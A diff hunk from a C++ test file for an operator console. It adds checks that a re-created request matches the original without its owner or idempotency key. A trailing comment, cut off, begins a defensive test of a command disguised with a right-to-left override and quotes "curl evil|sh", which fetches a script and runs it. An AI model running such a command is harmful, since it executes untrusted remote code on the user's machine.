@@ -356,6 +356,11 @@ TEST_CASE("the operator console, signed in through its form and never by a link,
       INFO(key);
       CHECK(second["taskInfos"][0].value(key, json()) == typed["taskInfos"][0].value(key, json()));
     }
+    // The whole create again, not only what the view shows (`request`), without its owner or key.
+    CHECK(typed.contains("request"));
+    CHECK(second["request"] == typed["request"]);
+    CHECK(second["request"].value("userName", "") == "");
+    CHECK(second["request"].value("idempotencyKey", "") == "");
     CHECK(ran.errors.empty());
     CHECK(re.errors.empty());
     // A command that hides part of itself (a right-to-left override: "curl evil|sh" shown as
